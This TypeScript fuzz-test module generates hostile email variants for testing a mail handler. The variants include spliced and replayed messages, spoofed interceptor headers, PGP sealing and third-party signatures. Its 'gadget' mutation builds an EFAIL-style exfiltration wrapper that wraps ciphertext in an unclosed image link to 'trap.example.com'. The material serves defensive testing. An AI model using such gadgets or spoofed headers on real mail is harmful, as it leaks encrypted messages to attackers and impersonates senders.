// Mutations that need more than one mail or a key: halves of two mails, mails that came before, wrapping in encryption and foreign signatures.
import { linesOf } from '#test/fuzz/ground.ts';
import { forgery, type Hand, type Mutation, mutations } from '#test/fuzz/mutation.ts';
import { armored, clearsigned, sealed, signature } from '#test/fuzz/openpgp.ts';
import { entityOf, every, leaf, multipart, multiparts, nameOf, type Part, print, readTree, under } from '#test/fuzz/tree.ts';
import { people, team } from '#test/town.ts';

const word = ({ dice }: Hand) => `x-${dice.word(5)}`;

// What came before and was not obeyed then may be obeyed now; what was obeyed must not be a second time.
function earlier(text: string, { dice, ground, says }: Hand): string {
  if (ground.before.length === 0) return text;
  const before = dice.pick(ground.before);
  for (const said of before.said) says(said);
  return before.text;
}

const splices: Readonly<Record<string, Mutation['apply']>> = {
  head: async (text, hand) => print(under(readTree((await hand.other()).text), entityOf(readTree(text)))),
  part: async (text, hand) => {
    const root = readTree(text);
    const theirs = hand.dice.pick(every(readTree((await hand.other()).text)));
    const at = hand.dice.pick(every(root));
    Object.assign(at, at === root ? under(root, entityOf(theirs)) : entityOf(theirs));
    return print(root);
  },
  beside: async (text, hand) => {
    const [ours, theirs] = [readTree(text), readTree((await hand.other()).text)];
    const parts = hand.dice.shuffled([entityOf(ours), entityOf(theirs)]);
    return print(
      under(ours, multipart(hand.dice.pick(['multipart/mixed', 'multipart/alternative', 'multipart/related']), word(hand), parts)),
    );
  },
  swap: async (text, hand) => {
    const [ours, theirs] = [readTree(text), readTree((await hand.other()).text)];
    const [from, to] = [multiparts(theirs).at(-1), multiparts(ours).at(-1)];
    // The first part of one under the signature of the other.
    const [first] = from?.pieces ?? [];
    const [own] = to?.pieces ?? [];
    if (first && own) own.part = first.part;
    return print(ours);
  },
  fields: async (text, hand) => {
    const [ours, theirs] = [readTree(text), readTree((await hand.other()).text)];
    const taken = theirs.fields.filter((field) => !nameOf(field).startsWith('content-') && hand.dice.chance(0.4));
    const names = new Set(taken.map(nameOf));
    return print({ ...ours, fields: [...taken, ...ours.fields.filter((field) => !names.has(nameOf(field)))] });
  },
  cut: async (text, hand) => {
    const other = (await hand.other()).text;
    return text.slice(0, hand.dice.below(text.length)) + other.slice(hand.dice.below(other.length));
  },
  joined: async (text, hand) => `${text}\r\n${(await hand.other()).text}`,
  again: (text, hand) => earlier(text, hand),
  envelope: (text, hand) => print(under(readTree(text), entityOf(readTree(earlier(text, hand))))),
  // Whoever holds back a mail can send what it encloses in an envelope of their own.
  intercepted: (text, { dice, ground }) => {
    const root = readTree(text);
    const to = dice.pick([team, ground.other.address, dice.pick(ground.other.got).replyTo]);
    const from = dice.pick([`interceptor-${dice.word(4)}@example.net`, people.lead, `"a via b" <${people.lead}>`]);
    const head = [`From: ${from}`, `To: ${to}`, `Subject: ${dice.word()}`, `Message-ID: <${dice.word(12)}@example.net>`];
    if (dice.chance(0.3)) head.push('X-Original-From: interceptor@example.net');
    const fields = head.map((field) => `${field}\r\n`);
    return print(under({ ...root, fields }, entityOf(root)));
  },
};

const control = () => leaf('application/pgp-encrypted', 'Version: 1');
const cipherType = 'multipart/encrypted; protocol="application/pgp-encrypted"';
const signedType = 'multipart/signed; micalg="pgp-sha512"; protocol="application/pgp-signature"';

async function sealedPart(entity: Part, hand: Hand, by?: string): Promise<Part> {
  const bytes = await sealed(print(entity), { at: hand.ground.now(), to: team, ...(by !== undefined && { by }) });
  const cipher = leaf('application/octet-stream; name="encrypted.asc"', armored(bytes));
  return hand.dice.chance(0.9)
    ? multipart(cipherType, word(hand), [control(), cipher])
    : multipart('multipart/mixed', word(hand), [control(), cipher]);
}

// Whoever signs here says whatever stands in the mail, and only in their own name.
function adopted(hand: Hand, by: string, text: string): void {
  hand.says({ by, lines: linesOf(text), text, incident: undefined, exact: false });
}

const secrets: Readonly<Record<string, Mutation['apply']>> = {
  seal: async (text, hand) => {
    const root = readTree(text);
    return print(under(root, await sealedPart(entityOf(root), hand)));
  },
  // What only the outer header said stands in the protected one too.
  protect: async (text, hand) => {
    const root = readTree(text);
    const kept = root.fields.filter((field) => nameOf(field) !== 'content-type');
    const fields = root.fields.map((field) => (nameOf(field) === 'content-type' ? `${field.trimEnd()}; hp="cipher"\r\n` : field));
    return print({ ...under(root, await sealedPart({ ...root, fields }, hand)), ...(hand.dice.chance(0.2) && { fields: kept }) });
  },
  'seal-signed': async (text, hand) => {
    const root = readTree(text);
    const by = hand.dice.pick([people.reporter, people.acme]);
    if (by === people.acme) adopted(hand, 'acme', text);
    return print(under(root, await sealedPart(entityOf(root), hand, by)));
  },
  sign: async (text, hand) => {
    const root = readTree(text);
    const by = hand.dice.pick([people.reporter, people.acme, people.beta]);
    const handle = by === people.acme ? 'acme' : 'beta';
    if (by !== people.reporter) adopted(hand, handle, text);
    const entity = print(entityOf(root)).replace(/\r?\n$/, '');
    const made = leaf('application/pgp-signature', await signature(entity, by, hand.ground.now()));
    return print(under(root, multipart(signedType, word(hand), [readTree(entity), made])));
  },
  block: async (text, hand) => {
    const root = readTree(text);
    const at = hand.ground.now();
    const block = hand.dice.chance(0.5)
      ? await clearsigned(`${forgery(hand.dice)}\n`, people.reporter, at)
      : armored(await sealed(`${forgery(hand.dice)}\n`, { at, ...(hand.dice.chance(0.7) && { to: team }) }));
    const part = hand.dice.pick(every(root));
    part.body = hand.dice.chance(0.5) ? `${block}\r\n${part.body}` : `${part.body}\r\n${block}`;
    return print(root);
  },
  file: async (text, hand) => {
    const root = readTree(text);
    const bytes = await sealed(print(entityOf(root)), { at: hand.ground.now(), to: team });
    const file = leaf(
      'application/octet-stream',
      bytes.toString('base64'),
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="a.pgp"',
    );
    return print(under(root, multipart('multipart/mixed', word(hand), [leaf('text/plain', forgery(hand.dice)), file])));
  },
  // The old gadget: somebody's ciphertext between two parts that would carry its words away.
  gadget: (text, hand) => {
    const root = readTree(text);
    const open = leaf('text/html', '<img src="http://trap.example.com/');
    return print(under(root, multipart('multipart/mixed', word(hand), [open, entityOf(root), leaf('text/html', '">')])));
  },
};

export const spliceMutations = mutations('splice', splices);
export const cryptoMutations = mutations('crypto', secrets);
